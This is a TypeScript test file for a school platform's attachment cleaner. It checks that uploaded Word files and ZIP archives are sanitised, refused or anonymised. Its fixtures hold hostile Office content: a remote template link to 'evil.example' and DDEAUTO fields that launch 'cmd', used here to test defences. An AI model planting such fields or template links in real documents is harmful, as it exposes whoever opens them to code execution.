import type { Attachment } from '@antecedent/contracts/submissions/attachments';
import { readZip, writeZip } from '@antecedent/domain/office/zip/zip';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { attachments } from '../../ground/db/schema/submissions.ts';
import { officeCodec } from '../../ground/platform/storage/office-codec.ts';
import { partsOf, withParts } from '../../record/versions/testing/version-scenario.ts';
import { traces } from '../../testing/hidden-class.ts';
import { aClassWithAssignment, aDocument, ask, started } from '../../testing/scenarios.ts';
import { startTestApp, type TestApp } from '../../testing/start-test-app.ts';
import { type AttachedWork, attaching, workWithFiles } from './testing/attached-files.ts';

let server: TestApp;
let work: AttachedWork;
beforeAll(async () => {
  server = await startTestApp();
});
afterAll(() => server.close());
beforeEach(async () => {
  work = await workWithFiles(server);
});

const { upload, get, attached } = attaching(
  () => server,
  () => work,
);
const list = () => get(work.student, `/student/upload?submissionId=${work.submissionId}`);
const zipped = (files: Record<string, Uint8Array>): Uint8Array =>
  writeZip(
    Object.entries(files).map(([name, bytes]) => ({ name, bytes })),
    officeCodec.deflate,
  );
/** A document of which a part doesn't match the directory. */
function aDamagedDocument(): Uint8Array {
  const bytes = Uint8Array.from(aDocument('One'));
  readZip(bytes).byName.get('word/_rels/document.xml.rels')?.raw.fill(0x55);
  return bytes;
}

describe('an office file that loads something from elsewhere', () => {
  it('does so no more for its readers, and is given back to its author as it was', async () => {
    const rels = 'word/_rels/settings.xml.rels';
    const bytes = withParts(aDocument('One'), {
      [rels]: `<Relationships><Relationship Id="rId1" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
    });
    const [file] = await attached({ fileName: 'Notes.DOCX', bytes });
    const read = await get(work.course.instructor, `/submission/download/${file?.id}`);
    const after = Buffer.from(partsOf(read.rawPayload)[rels] ?? '', 'base64').toString();
    expect(after).toContain('Target="about:blank"');
    const own = await get(work.student, `/student/download/${file?.id}`);
    expect(Buffer.compare(own.rawPayload, Buffer.from(bytes))).toBe(0);
  });

  it('shows its readers the results of fields that would start a program, whatever it is called', async () => {
    const part = 'word/header9.xml';
    const bytes = withParts(aDocument('One'), {
      [part]:
        '<w:p><w:fldSimple w:instr=" DDEAUTO cmd "><w:r><w:t>the total</w:t></w:r></w:fldSimple></w:p>',
    });
    const files = await attached(
      { fileName: 'Notes.docx', bytes },
      { fileName: 'Renamed.zip', bytes },
    );
    expect(files.map(({ fileName }) => fileName)).toEqual(['Notes.docx', 'Renamed.zip']);
    for (const one of files) {
      const read = await get(work.course.instructor, `/submission/download/${one.id}`);
      expect(Buffer.from(partsOf(read.rawPayload)[part] ?? '', 'base64').toString()).toBe(
        '<w:p><w:r><w:t>the total</w:t></w:r></w:p>',
      );
    }
  });

  it('does so no more in a ZIP archive, which its author gets back as it was', async () => {
    const part = 'word/header9.xml';
    const document = withParts(aDocument('One'), {
      [part]:
        '<w:p><w:fldSimple w:instr=" DDEAUTO cmd "><w:r><w:t>the total</w:t></w:r></w:fldSimple></w:p>',
    });
    const bytes = zipped({ 'Notes.docx': document, 'readme.txt': Buffer.from('DDEAUTO') });
    const [file] = await attached({ fileName: 'All.zip', bytes });
    const read = await get(work.course.instructor, `/submission/download/${file?.id}`);
    const inside = partsOf(read.rawPayload);
    const notes = partsOf(Buffer.from(inside['Notes.docx'] ?? '', 'base64'));
    expect(Buffer.from(notes[part] ?? '', 'base64').toString()).toBe(
      '<w:p><w:r><w:t>the total</w:t></w:r></w:p>',
    );
    expect(Buffer.from(inside['readme.txt'] ?? '', 'base64').toString()).toBe('DDEAUTO');
    const own = await get(work.student, `/student/download/${file?.id}`);
    expect(Buffer.compare(own.rawPayload, Buffer.from(bytes))).toBe(0);
  });

  it('is refused when a part of it can’t be read, since no one could clean it', async () => {
    const refused = await upload([{ fileName: 'Notes.docx', bytes: aDamagedDocument() }]);
    expect(refused.statusCode).toBe(415);
    expect(refused.json().message).toBe(
      'This file isn’t what its name says, or it is damaged: Notes.docx. Open it in the program it comes from and save it again.',
    );
  });

  it('is marked for both sides when it is in an archive, whose other files are cleaned', async () => {
    const part = 'word/header9.xml';
    const document = withParts(aDocument('One'), {
      [part]: '<w:p><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>',
    });
    const bytes = zipped({ 'Broken.docx': aDamagedDocument(), 'Notes.docx': document });
    const [file, plain] = await attached(
      { fileName: 'All.zip', bytes },
      { fileName: 'Plain.zip', bytes: zipped({ 'a.txt': Buffer.from('A') }) },
    );
    expect([file?.isUnchecked, plain?.isUnchecked]).toEqual([true, false]);
    const page = await ask<{ attachedFiles: Attachment[] }>(
      server,
      work.course.instructor,
      `/classes/readsubmission?submissionId=${work.submissionId}`,
    );
    expect(page.attachedFiles.find(({ id }) => id === file?.id)).toMatchObject({
      isUnchecked: true,
    });
    const read = await get(work.course.instructor, `/submission/download/${file?.id}`);
    const inside = partsOf(read.rawPayload);
    expect(Buffer.from(inside['Broken.docx'] ?? '', 'base64')).toEqual(
      Buffer.from(aDamagedDocument()),
    );
    const notes = partsOf(Buffer.from(inside['Notes.docx'] ?? '', 'base64'));
    expect(Buffer.from(notes[part] ?? '', 'base64').toString()).not.toContain('DDEAUTO');
  });

  it('is marked also when it was attached before files were looked into', async () => {
    const bytes = zipped({ 'Broken.docx': aDamagedDocument() });
    const [file] = await attached({ fileName: 'All.zip', bytes });
    await server.db.update(attachments).set({ isUnchecked: null });
    const files = (await list()).json<Attachment[]>();
    expect(files.find(({ id }) => id === file?.id)).toMatchObject({ isUnchecked: true });
  });
});

describe('a ZIP archive of a student whose name is hidden', () => {
  it('names no one: its files are numbered, and office files have no authors', async () => {
    const names = { withoutNames: true, uploadFile: true };
    const { course, student, assignment } = await aClassWithAssignment(server, names);
    const { submissionId } = await started(server, student, assignment);
    const core = `<cp:coreProperties><dc:creator>${student.lastName}</dc:creator></cp:coreProperties>`;
    const bytes = zipped({
      [`${student.lastName}/Notes by ${student.lastName}.docx`]: withParts(aDocument('One'), {
        'docProps/core.xml': core,
      }),
    });
    const files = [{ fileName: 'All.zip', bytes }];
    const answer = await upload(files, student, submissionId);
    const [file] = answer.json<Attachment[]>();
    const read = await get(course.instructor, `/submission/download/${file?.id}`);
    expect(read.statusCode).toBe(200);
    const inside = partsOf(read.rawPayload);
    expect(Object.keys(inside)).toEqual(['1.docx']);
    const document = partsOf(Buffer.from(inside['1.docx'] ?? '', 'base64'));
    const texts = Object.values(document).map((part) => Buffer.from(part, 'base64').toString());
    expect(texts.join()).toContain('One');
    for (const trace of traces(student)) expect(texts.join()).not.toContain(trace);
  });
});

describe('a file of a student whose name is hidden that can’t be checked', () => {
  it('is withheld, and left out of a ZIP archive', async () => {
    const names = { withoutNames: true, uploadFile: true };
    const { course, student, assignment } = await aClassWithAssignment(server, names);
    const { submissionId } = await started(server, student, assignment);
    const rar = Buffer.from(`Rar!\x1a\x07\x00${student.lastName}`, 'latin1');
    const files = [
      { fileName: 'All.rar', bytes: rar },
      { fileName: 'Both.zip', bytes: zipped({ 'a.rar': rar, 'b.txt': Buffer.from('One') }) },
    ];
    const answer = await upload(files, student, submissionId);
    const [whole, packed] = answer.json<Attachment[]>();
    expect([whole?.isUnchecked, packed?.isUnchecked]).toEqual([true, true]);
    const withheld = await get(course.instructor, `/submission/download/${whole?.id}`);
    expect(withheld.statusCode).toBe(409);
    expect(withheld.json().message).toContain('only once names are shown');
    const read = await get(course.instructor, `/submission/download/${packed?.id}`);
    const inside = partsOf(read.rawPayload);
    expect(inside).toEqual({ '1.rar': '', '2.txt': Buffer.from('One').toString('base64') });
  });
});
